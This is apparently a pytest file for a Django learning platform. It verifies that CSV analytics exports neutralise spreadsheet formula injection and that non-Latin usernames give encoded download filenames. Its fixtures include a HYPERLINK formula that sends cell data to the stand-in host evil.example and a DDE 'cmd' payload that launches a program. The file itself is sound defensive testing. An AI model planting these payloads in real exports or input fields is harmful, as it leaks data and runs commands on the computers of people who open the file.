"""Every CSV download quotes text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from analytics.models import Event
from lms.spreadsheet import from_spreadsheet, spreadsheet_safe

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_spreadsheet_safe_quotes_formulas_only() -> None:
    assert spreadsheet_safe(PAYLOAD) == "'" + PAYLOAD
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("plain") == "plain"
    assert spreadsheet_safe(-3) == -3  # numbers stay numbers
    assert from_spreadsheet(spreadsheet_safe(PAYLOAD)) == PAYLOAD


def test_analytics_csv_quotes_student_controlled_cells(client_for: object, admin: object, student: object) -> None:
    Event.objects.create(name=PAYLOAD, user=student, session_key="=cmd|' -C calc'!A0", timestamp=timezone.now())
    client = client_for(admin)
    for url in (
        reverse("analytics:user", args=[student.pk]) + "?csv=1",
        reverse("analytics:session", args=["=cmd|' -C calc'!A0"]) + "?csv=1",
        reverse("analytics:dashboard") + "?csv=features",
    ):
        rows = list(csv.reader(io.StringIO(client.get(url).content.decode())))
        cells = [cell for row in rows for cell in row]
        assert any(PAYLOAD in cell for cell in cells), url
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], url


def test_csv_filename_of_a_non_latin_username_is_rfc6266_encoded(client_for: object, admin: object) -> None:
    from tests.factories import UserFactory

    person = UserFactory(username="名前ü")
    response = client_for(admin).get(reverse("analytics:user", args=[person.pk]) + "?csv=1")
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''events-")
